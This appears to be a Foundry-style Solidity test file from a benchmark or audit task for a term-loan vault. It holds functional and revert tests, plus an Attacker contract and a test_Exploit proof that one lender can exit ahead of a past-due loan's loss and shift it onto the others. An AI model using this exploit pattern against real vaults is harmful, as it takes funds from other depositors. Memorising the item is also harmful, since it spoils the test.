// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-fc1509a1-cb74-449d-8153-93b67cf9343c

import "./TermLoanVault.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Dollar is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Dollar", "USD") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Lender {
    TermLoanVault internal vault;

    constructor(TermLoanVault vault_, Dollar dollar) {
        vault = vault_;
        dollar.approve(address(vault_), type(uint256).max);
    }

    function deposit(uint256 assets) external {
        vault.deposit(assets, 0);
    }

    function redeem(uint256 shares) external returns (uint256) {
        return vault.redeem(shares, 0);
    }

    function requestExit(uint256 shares) external {
        vault.requestExit(shares);
    }

    function claim() external returns (uint256) {
        return vault.claim();
    }
}

/// A lender like any other. Leaves when a loan has fallen past due, as cheaply for itself as the vault allows.
contract Attacker is Lender {
    constructor(TermLoanVault vault_, Dollar dollar) Lender(vault_, dollar) {}

    function leave() external {
        vault.requestExit(vault.sharesOf(address(this)));
        try vault.processQueue(10) {}
        catch {
            vault.book().revalue();
            vault.processQueue(10);
        }
        vault.claim();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    bytes4 private immutable UNAUTHORIZED = IAccessControl.AccessControlUnauthorizedAccount.selector;

    Dollar public dollar;
    TermLoanVault public vault;
    LoanBook public book;
    Lender public lender;
    Attacker public quitter;
    uint256 public loan;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        vault = new TermLoanVault(dollar, address(this), address(this));
        book = vault.book();
        dollar.approve(address(vault), type(uint256).max);
        lender = new Lender(vault, dollar);
        quitter = new Attacker(vault, dollar);
        dollar.mint(address(lender), 800_000e6);
        dollar.mint(address(quitter), 200_000e6);
        lender.deposit(800_000e6);
        quitter.deposit(200_000e6);

        // This contract is the servicer, and the borrower of the loan.
        loan = vault.lend(address(this), 500_000e6, 20_000e6, 30 days);
        vm.warp(START + 29 days);
        book.revalue();
        // The loan falls past due; today's revaluation is yet to come.
        vm.warp(START + 30 days + 6 hours);
    }

    // What the other lender's shares are worth, loan by loan.
    function holdersValue() public view returns (uint256) {
        uint256 gross = vault.idle() + book.appraise().value;
        return ShareMath.toAssets(vault.sharesOf(address(lender)), gross, vault.totalShares());
    }

    function test_Regular() public {
        require(holdersValue() == 600_000e6, "loss is shared");
        try lender.redeem(1e12) {
            revert("priced at an old mark");
        } catch {}
        book.revalue();
        dollar.mint(address(lender), 1_000e6);
        try lender.deposit(1_000e6) {
            revert("deposit while past due");
        } catch {}

        // Immediate exit at the marked-down value.
        uint256 paid = lender.redeem(80_000e12);
        require(paid <= 60_000e6 && paid + 1 >= 60_000e6, "immediate exit");

        // Both queue; idle cash serves the first and part of the second.
        lender.requestExit(620_000e12);
        quitter.requestExit(200_000e12);
        try lender.redeem(1e12) {
            revert("jumped the queue");
        } catch {}
        vault.processQueue(10);
        uint256 due = vault.claimable(address(lender));
        require(due <= 440_000e6 && due + 2 >= 440_000e6, "cash goes to the first");
        require(vault.queueLength() == 2 && vault.idle() <= 1, "cash is used up");

        // The borrower pays late and in full; the rest of the queue shares in it.
        dollar.mint(address(this), 20_000e6);
        require(vault.repay(loan) == 520_000e6, "late payoff");
        require(book.carryingValue() == 0 && book.pastDue() == 0, "book is empty");
        vm.warp(START + 40 days);
        try vault.processQueue(10) {
            revert("mark of last week");
        } catch {}
        book.revalue();
        vault.processQueue(1);
        vault.processQueue(10);
        require(vault.queueLength() == 0, "queue is served");
        uint256 first = lender.claim();
        uint256 second = quitter.claim();
        require(first > 439_999e6 && second > 150_000e6, "claims are paid");
        require(dollar.balanceOf(address(quitter)) == second, "cash arrived");

        // Deposits are open again; a new loan earns interest evenly.
        dollar.mint(address(quitter), 100_000e6);
        uint256 before = vault.previewRedeem(1e12);
        quitter.deposit(100_000e6);
        require(vault.previewRedeem(1e12) == before, "price unmoved by a deposit");
        uint256 id = vault.lend(address(this), 50_000e6, 1_000e6, 10 days);
        vm.warp(START + 45 days);
        require(vault.grossAssets() - vault.idle() <= 50_500e6 && book.payoff(id) == 50_500e6, "half the interest");
        require(book.payoff(id) - book.carryingValue() <= 1, "carried to the unit");
        dollar.mint(address(this), 500e6);
        vault.repay(id);
        require(vault.grossAssets() == vault.idle(), "all cash");
        bytes32 role = vault.SERVICER_ROLE();
        vault.grantRole(role, address(lender));
        vault.revokeRole(role, address(lender));
        vault.renounceRole(role, address(this));
        require(!vault.hasRole(role, address(lender)) && !vault.hasRole(role, address(this)), "roles");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Deposits and exits of something, and for no less than asked.
    function test_RefusesAmounts() public {
        vm.expectRevert("TermLoanVault: not enough idle");
        vault.lend(address(this), 500_000e6 + 1, 0, 1 days);
        refuses(address(lender), "TermLoanVault: below the minimum");
        vault.requestExit(1e12 - 1);
        book.revalue();
        refuses(address(lender), "TermLoanVault: too few assets");
        vault.redeem(1e12, 1e6);
        refuses(address(lender), "TermLoanVault: not enough idle");
        vault.redeem(700_000e12, 0);
        dollar.mint(address(this), 20_000e6);
        vault.repay(loan);
        book.revalue();
        vm.expectRevert("TermLoanVault: too few shares");
        vault.deposit(0, 0);
        dollar.mint(address(this), 1_000e6);
        vm.expectRevert("TermLoanVault: too few shares");
        vault.deposit(1_000e6, 2_000e12);
    }

    /// Roles are the administrator's to grant, and marks are young.
    function test_RefusesStrangers() public {
        bytes32 role = vault.SERVICER_ROLE();
        refuses(address(lender), abi.encodeWithSelector(UNAUTHORIZED, address(lender), bytes32(0)));
        vault.grantRole(role, address(lender));
        refuses(address(lender), abi.encodeWithSelector(UNAUTHORIZED, address(lender), bytes32(0)));
        vault.revokeRole(role, address(this));
        refuses(address(lender), abi.encodeWithSelector(UNAUTHORIZED, address(lender), role));
        vault.lend(address(lender), 1, 0, 1 days);
        vm.expectRevert("LoanBook: not the vault");
        book.open(address(this), 1, 0, 1 days);
        vm.expectRevert("LoanBook: not the vault");
        book.close(loan);
    }

    function test_RefusesMarks() public {
        vm.expectRevert("TermLoanVault: stale mark");
        vault.previewRedeem(1e12);
        refuses(address(lender), "TermLoanVault: stale mark");
        vault.redeem(1e12, 0);
        book.revalue();
        refuses(address(lender), "TermLoanVault: deposits closed");
        vault.deposit(0, 0);
        vm.warp(block.timestamp + 7 days + 1);
        vm.expectRevert("TermLoanVault: mark too old");
        vault.processQueue(1);
        vm.prank(address(lender));
        vault.requestExit(1e12);
        refuses(address(quitter), "TermLoanVault: queue not empty");
        vault.redeem(1e12, 0);
    }

    function test_RefusesLoans() public {
        vm.expectRevert("LoanBook: no principal");
        vault.lend(address(this), 0, 0, 1 days);
        vm.expectRevert("LoanBook: term out of range");
        vault.lend(address(this), 1, 0, 0);
        vm.expectRevert("LoanBook: term out of range");
        vault.lend(address(this), 1, 0, 3650 days + 1);
        vm.expectRevert("LoanBook: unknown loan");
        vault.repay(loan + 1);
        for (uint256 i = 1; i < 24; i++) vault.lend(address(this), 1, 0, 1 days);
        vm.expectRevert("LoanBook: full");
        vault.lend(address(this), 1, 0, 1 days);
    }

    function exploit() public {
        quitter.leave();
    }

    function test_Exploit() public {
        uint256 before = holdersValue();
        exploit();
        require(holdersValue() + 50_000e6 <= before, "the others keep their value");
        require(dollar.balanceOf(address(quitter)) >= 200_000e6, "left with the loss");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(quitter);
    }
}
